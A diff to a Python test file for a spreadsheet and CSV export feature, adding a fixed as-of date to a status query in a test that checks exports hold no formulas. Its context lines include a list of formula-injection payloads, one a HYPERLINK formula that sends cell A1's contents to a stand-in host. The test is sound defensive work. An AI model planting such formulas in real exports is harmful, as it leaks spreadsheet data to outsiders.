@@ -20,7 +20,7 @@ from geo.store import Store
 from layers.export_spec import ExportOptions
 from layers.export_text import FORMULA_STARTS, csv_text
 from layers.models import Parcel
-from tests.layers.test_export_fixtures import Seeded, seeded  # noqa: F401
+from tests.layers.test_export_fixtures import AS_OF, Seeded, seeded  # noqa: F401
 
 PAYLOADS = ['=HYPERLINK("http://x.example/?a="&A1,"点我")', "+1+2", "-3+4", "@SUM(1,2)",
             "\t=1+1", "\r=2+2", "=1+1"]
@@ -84,7 +84,7 @@ def test_status_exports_hold_no_formulas(store: Store, seeded: Seeded, tmp_path:
                                          lang: str, name: str, options: dict) -> None:
     _poison(store)
     out = tmp_path / name
-    export_status(store, out, StatusQuery(), ExportOptions(**options), lang=lang)
+    export_status(store, out, StatusQuery(as_of=AS_OF), ExportOptions(**options), lang=lang)
     if out.suffix == ".xlsx":
         _check_xlsx(out)
     else:
